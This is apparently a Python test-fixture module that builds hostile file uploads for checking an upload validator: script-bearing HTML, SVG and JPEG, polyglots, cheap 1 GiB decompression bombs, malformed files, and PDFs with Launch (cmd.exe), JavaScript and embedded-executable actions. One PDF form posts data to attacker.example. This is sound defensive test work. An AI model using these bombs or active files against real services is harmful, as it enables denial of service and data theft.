"""Hostile uploads, built in memory: lying names, polyglots, bombs, active PDFs, odd names.

Everything here is small to build and small to hold: the decompression bombs
are assembled from one repeated deflate block, so a PDF that inflates to 1 GiB
costs about 1 MiB and a few milliseconds to make.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from .files import jpeg, pdf, png
from .pdf_tricks import PAGES, pdf_with_object_stream

MIB = 1 << 20
GIB = 1 << 30
_ADLER_MOD = 65521


# -- plain hostile content ----------------------------------------------------------------
def html_page() -> bytes:
    return (b"<!DOCTYPE html><html><head><title>x</title></head><body>"
            b"<script>fetch('/api/v1/me').then(r => r.text()).then(alert)</script></body></html>")


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>")


def gif() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(buf, "GIF")
    return buf.getvalue()


def zip_archive(files: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (files or {"payload.html": html_page(), "run.bat": b"calc.exe\r\n"}).items():
            archive.writestr(name, data)
    return buf.getvalue()


# -- polyglots ----------------------------------------------------------------------------
def png_with_zip_appended() -> bytes:
    """A valid PNG, then a whole ZIP after IEND (opens as either)."""
    return png() + zip_archive()


def png_with_html_appended() -> bytes:
    """A valid PNG, then HTML with a script after IEND (what a sniffing browser might run)."""
    return png() + html_page()


def jpeg_with_script_comment() -> bytes:
    """A valid JPEG whose COM segment holds an HTML script."""
    data = jpeg()
    comment = b"<script>alert(document.cookie)</script><!--"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]  # right after SOI


def pdf_zip_polyglot() -> bytes:
    """A PDF (header first) whose bytes end with a ZIP central directory: unzip sees an archive.

    The ZIP's offsets are relative to its own start, as with ``cat a.pdf b.zip``; zip tools
    find the end-of-central-directory record and correct for the prefix.
    """
    return pdf() + zip_archive()


# -- decompression bombs ------------------------------------------------------------------
def _adler_after_zeros(adler: int, count: int) -> int:
    """adler32 of the data so far, extended by ``count`` zero bytes (A is unchanged, B += count*A)."""
    a, b = adler & 0xFFFF, adler >> 16
    return (((b + count % _ADLER_MOD * a) % _ADLER_MOD) << 16) | a


def flate_zeros(total: int, prefix: bytes = b"", *, broken_checksum: bool = False) -> bytes:
    """A zlib stream of ``prefix`` followed by ``total`` zero bytes, built without inflating anything.

    One full-flushed deflate block of 1 MiB of zeros compresses to ~1 KiB and, the
    dictionary being reset by the flush, every following block is byte for byte the same.
    """
    assert total % MIB == 0 and total >= 2 * MIB
    chunk = bytes(MIB)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(prefix) + deflate.flush(zlib.Z_FULL_FLUSH) if prefix else b""
    first = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeated = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.flush()  # the final (empty) block
    adler = _adler_after_zeros(zlib.adler32(prefix), total)
    if broken_checksum:
        adler ^= 0xFFFFFFFF
    return b"\x78\xda" + head + first + repeated * (total // MIB - 1) + end + struct.pack(">I", adler)


class _PdfBuilder:
    """Numbered objects, a classic xref table (or an xref stream) and a trailer."""

    def __init__(self, version: bytes = b"1.5"):
        self.out = io.BytesIO()
        self.out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
        self.offsets: dict[int, int] = {}

    def obj(self, number: int, body: bytes) -> None:
        self.offsets[number] = self.out.tell()
        self.out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    def stream(self, number: int, entries: bytes, data: bytes) -> None:
        self.obj(number, b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream")

    def finish(self, root: int = 1) -> bytes:
        size = max(self.offsets) + 1
        xref_at = self.out.tell()
        rows = [b"0000000000 65535 f \n"] + [
            b"%010d 00000 n \n" % self.offsets[n] if n in self.offsets else b"0000000000 65535 f \n"
            for n in range(1, size)]
        self.out.write(b"xref\n0 %d\n" % size + b"".join(rows))
        self.out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at))
        return self.out.getvalue()


def _one_page(builder: _PdfBuilder, contents: bytes = b"") -> None:
    builder.obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    builder.obj(2, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>")
    builder.obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >>" + contents + b" >>")


def pdf_content_stream_bomb(inflated: int = GIB) -> bytes:
    """One page whose content stream inflates to ``inflated`` zero bytes (~1 KiB per MiB)."""
    builder = _PdfBuilder(b"1.4")
    _one_page(builder, b" /Contents 4 0 R")
    builder.stream(4, b"/Filter /FlateDecode", flate_zeros(inflated))
    return builder.finish()


def pdf_object_stream_bomb(inflated: int = GIB, *, broken_checksum: bool = False) -> bytes:
    """A PDF 1.5 whose catalog sits in an object stream padded to ``inflated`` bytes.

    A reader has to inflate the object stream to find the catalog, so unlike a content
    stream this one cannot be left alone by a checker that opens the document.
    """
    header = b"1 0 "
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    packed = flate_zeros(inflated, header + catalog + b"\n", broken_checksum=broken_checksum)
    return pdf_with_object_stream(dict(PAGES), 1, len(header), packed)


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header declaring ``width`` x ``height`` RGB pixels, followed by a token IDAT."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 4096)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real small JPEG whose SOF header is rewritten to declare ``width`` x ``height``."""
    data = bytearray(jpeg())
    for marker in (b"\xff\xc0", b"\xff\xc2"):
        at = data.find(marker)
        if at > 0:
            data[at + 5:at + 9] = struct.pack(">HH", height, width)
            return bytes(data)
    raise AssertionError("no SOF marker")


def png_with_ztxt_bomb(inflated: int = 256 * MIB) -> bytes:
    """A valid 32x32 PNG carrying a zTXt text chunk that inflates to ``inflated`` bytes."""
    base = png()
    text = b"Comment\x00\x00" + flate_zeros(inflated)
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    iend = base.rfind(b"IEND") - 4
    return base[:iend] + chunk + base[iend:]


# -- malformed files ----------------------------------------------------------------------
def pdf_header_only() -> bytes:
    return b"%PDF-1.7\n"


def pdf_header_and_eof() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


def pdf_truncated() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


def png_signature_only() -> bytes:
    return b"\x89PNG\r\n\x1a\n"


def jpeg_soi_only() -> bytes:
    return b"\xff\xd8\xff"


def jpeg_truncated() -> bytes:
    data = jpeg((64, 64))
    return data[: len(data) * 2 // 3]


# -- active PDFs (what test_uploads.py does not build) ------------------------------------------
def _writer_pdf(edit) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    edit(writer)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject("/" + key): value for key, value in entries.items()})
    return action


def launch_pdf() -> bytes:
    """/OpenAction << /S /Launch /F (cmd.exe) >>: starts a program on open."""
    return _writer_pdf(lambda w: w._root_object.__setitem__(NameObject("/OpenAction"), _action(
        "/Launch", F=TextStringObject("cmd.exe"), P=TextStringObject("/c calc"))))


def launch_pdf_escaped() -> bytes:
    """The same with the action's name #xx-escaped (/L#61unch reads /Launch)."""
    return launch_pdf().replace(b"/Launch", b"/L#61unch")


def embedded_files_pdf() -> bytes:
    """A file attachment in the /Names /EmbeddedFiles tree."""
    def edit(writer: PdfWriter) -> None:
        writer.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 64)
    return _writer_pdf(edit)


def page_additional_actions_pdf() -> bytes:
    """A page whose /AA /O (page open) runs JavaScript."""
    def edit(writer: PdfWriter) -> None:
        page = writer.pages[0]
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(
            _action("/JavaScript", JS=TextStringObject("app.alert(1)")))})
    return _writer_pdf(edit)


def catalog_additional_actions_pdf() -> bytes:
    """Document-level /AA (will-close) on the catalog, pointing at a /Launch action."""
    def edit(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/AA")] = DictionaryObject({
            NameObject("/WC"): _action("/Launch", F=TextStringObject("calc.exe"))})
    return _writer_pdf(edit)


def javascript_names_tree_pdf() -> bytes:
    """Document JavaScript in /Names /JavaScript (runs on open), no /OpenAction at all."""
    def edit(writer: PdfWriter) -> None:
        script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('names tree');")))
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})})
    return _writer_pdf(edit)


def javascript_in_next_chain_pdf() -> bytes:
    """A harmless /GoTo open action whose /Next runs JavaScript."""
    def edit(writer: PdfWriter) -> None:
        page = writer.pages[0].indirect_reference
        js = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
        writer._root_object[NameObject("/OpenAction")] = _action(
            "/GoTo", D=ArrayObject([page, NameObject("/Fit")]), Next=js)
    return _writer_pdf(edit)


def link_annotation_javascript_pdf() -> bytes:
    """A link annotation whose /A is a JavaScript action (runs on click)."""
    def edit(writer: PdfWriter) -> None:
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(595), FloatObject(842)]),
            NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
            NameObject("/A"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _writer_pdf(edit)


def javascript_stream_pdf() -> bytes:
    """/OpenAction whose /JS is a (compressed) stream rather than a string."""
    def edit(writer: PdfWriter) -> None:
        script = DecodedStreamObject()
        script.set_data(b"app.alert('from a stream');")
        script = script.flate_encode()
        writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=writer._add_object(script))
    return _writer_pdf(edit)


def submit_form_pdf() -> bytes:
    """/OpenAction /SubmitForm: posts form data to a URL on open."""
    return _writer_pdf(lambda w: w._root_object.__setitem__(NameObject("/OpenAction"), _action(
        "/SubmitForm", F=TextStringObject("https://attacker.example/collect"))))


def xfa_form_pdf() -> bytes:
    """An XFA form (scriptable) in /AcroForm."""
    def edit(writer: PdfWriter) -> None:
        xfa = DecodedStreamObject()
        xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    return _writer_pdf(edit)


def javascript_in_incremental_update_pdf() -> bytes:
    """A clean PDF, then an incremental update that adds a JavaScript /OpenAction to the catalog."""
    base = pdf()
    xref_at = int(base[base.rindex(b"startxref") + 9:].split()[0])
    trailer = base[base.rindex(b"trailer"):base.rindex(b"startxref")]
    root = int(trailer.split(b"/Root")[1].split()[0])
    size = int(trailer.split(b"/Size")[1].split()[0])
    pages = int(base.split(b"/Pages ")[1].split()[0])
    update = io.BytesIO()
    update.write(base)
    at = update.tell()
    update.write(b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
                 b"\nendobj\n" % (root, pages))
    new_xref = update.tell()
    update.write(b"xref\n%d 1\n%010d 00000 n \n" % (root, at))
    update.write(b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
                 % (size, root, xref_at, new_xref))
    return update.getvalue()


# -- raw multipart ---------------------------------------------------------------------------
BOUNDARY = "----hostile-boundary-5d1e"


def multipart(parts: list[tuple[str, bytes | None, bytes]], boundary: str = BOUNDARY) -> bytes:
    """A multipart/form-data body from (field name, raw filename bytes or None, content) parts.

    The filename goes into the header byte for byte, so names with quotes, NUL, CR/LF
    or non-UTF-8 reach the server as a client could really send them.
    """
    out = io.BytesIO()
    for name, filename, content in parts:
        out.write(b"--" + boundary.encode() + b"\r\n")
        out.write(b'Content-Disposition: form-data; name="' + name.encode() + b'"')
        if filename is not None:
            out.write(b'; filename="' + filename + b'"\r\nContent-Type: application/octet-stream')
        out.write(b"\r\n\r\n" + content + b"\r\n")
    out.write(b"--" + boundary.encode() + b"--\r\n")
    return out.getvalue()
